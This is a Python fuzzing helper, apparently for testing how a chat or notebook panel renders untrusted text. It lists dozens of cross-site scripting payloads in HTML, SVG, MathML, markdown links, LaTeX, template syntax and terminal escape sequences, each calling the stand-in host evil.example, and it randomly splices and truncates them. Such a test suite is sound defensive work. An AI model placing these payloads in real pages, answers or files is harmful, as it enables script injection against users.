"""Text with which an attacker makes a browser act, for a model's answer, a file name or a tool result."""

from __future__ import annotations

import json
import random
from pathlib import Path

EVIL = "https://evil.example"
RUN = "window.pwned=1;fetch('https://evil.example/run')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src='{EVIL}/pixel.png'>",
    f"<svg onload=\"{RUN}\"><circle r=9 /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{RUN}\"/>#x'></svg>",
    f"<math><maction actiontype=statusline xlink:href=\"javascript:{RUN}\">x</maction></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'>",
    f"<link rel=stylesheet href='{EVIL}/s.css'><base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    f"<style>@import '{EVIL}/i.css'; *{{background:url({EVIL}/b.png)}}</style>",
    f"<div style=\"background:url({EVIL}/c.png)\" onmouseover=\"{RUN}\">x</div>",
    f"<form action='{EVIL}/form'><input autofocus onfocus=\"{RUN}\"><button>x</button></form>",
    f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    f"<video src='{EVIL}/v.mp4' onerror=\"{RUN}\" autoplay></video><audio src='{EVIL}/a.mp3' autoplay></audio>",
    f"<body onload=\"{RUN}\"><p onclick=\"{RUN}\" id=defaultStatus>x",
    f"<!--><img src=x onerror=\"{RUN}\">-->",
    f"<![CDATA[<img src=x onerror=\"{RUN}\">]]>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT\n>{RUN}</SCRIPT\t>",
    f"<img src=\"x\"onerror=\"{RUN}\"/>",
    f"'\"><img src=x onerror=\"{RUN}\">",
    f"' onmouseover='{RUN}' x='",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"[click](&#106;avascript:{RUN})",
    f"[click](javas\\cript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[click](vbscript:{RUN})",
    f"[click][1]\n\n[1]: javascript:{RUN}",
    f"[click](x \"'><img src=x onerror={RUN}>\")",
    f"![pixel]({EVIL}/pixel.png)",
    f"![pixel][2]\n\n[2]: {EVIL}/pixel.png",
    f"![pixel](data:image/svg+xml,<svg onload={RUN}>)",
    f"[![pixel]({EVIL}/pixel.png)](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"<{EVIL}/\"onmouseover=\"{RUN}>",
    f"`<img src=x onerror=\"{RUN}\">`",
    f"``` <img src=x onerror=\"{RUN}\">\n<img src=x onerror=\"{RUN}\">\n```",
    f"```html\n<img src=x onerror=\"{RUN}\">\n```",
    f"```\"><img src=x onerror=\"{RUN}\">\nx\n```",
    f"~~~\n```\n~~~\n<img src=x onerror=\"{RUN}\">",
    f"    <img src=x onerror=\"{RUN}\">",
    f"> <img src=x onerror=\"{RUN}\">",
    f"- ```\n  <img src=x onerror=\"{RUN}\">",
    f"| a | b |\n|---|---|\n| <img src=x onerror=\"{RUN}\"> | `<img src=x onerror=\"{RUN}\">` |",
    f"$<img src=x onerror=\"{RUN}\">$",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"$\\unicode{{<img src=x onerror=\"{RUN}\">}}$ $$ \\style{{background:url({EVIL}/m.png)}}{{x}} $$",
    f"\\begin{{x}}<img src=x onerror=\"{RUN}\">\\end{{x}}",
    f"\\<img src=x onerror=\"{RUN}\">",
    f"\\\\<img src=x onerror=\"{RUN}\">",
    f"&lt;img src=x onerror=\"{RUN}\"&gt;",
    f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
    f"\x1b[31m<img src=x onerror=\"{RUN}\">\x1b[0m",
    "\u202e\u2066<\u2069tpircs\u202c",
    f"\ufeff<img src=x onerror=\"{RUN}\">",
    f"\0<img src=x onerror=\"{RUN}\">",
    "\ud800",
    "<" * 3000,
    "[" * 500 + "](" * 500,
    "`" * 999 + f"<img src=x onerror=\"{RUN}\">",
    f"[^1]\n\n[^1]: <img src=x onerror=\"{RUN}\">",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"<jp-x><template><img src=x onerror=\"{RUN}\"></template></jp-x>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"<textarea></textarea><img src=x onerror=\"{RUN}\"></title></style></pre></code>",
)  # fmt: skip
CORPUS: list[dict[str, str]] = json.loads(
    (Path(__file__).parents[1] / "corpus" / "xss.json").read_text(encoding="utf-8")
)
"""As the panel's own tests show them; ``{class, text}``."""
JOINTS = (
    "",
    " ",
    "\n",
    "\n\n",
    "\n> ",
    "\n- ",
    "`",
    "**",
    "$",
    "\n```\n",
    "\n    ",
    "<",
    "](",
    "\\",
    "|",
    "<!--",
    "\t",
)


def hostile(chance: random.Random) -> str:
    """Return one payload, several joined, or one that is cut off as text that is still streaming."""
    words = [*PAYLOADS, *(entry["text"] for entry in CORPUS)]
    parts = [chance.choice(words) for _ in range(chance.choice([1, 1, 2, 3]))]
    whole = parts[0]
    for part in parts[1:]:
        whole += chance.choice(JOINTS) + part
    whole = chance.choice(JOINTS) + whole if chance.random() < 0.3 else whole
    return whole[: chance.randrange(len(whole) + 1)] if chance.random() < 0.3 else whole
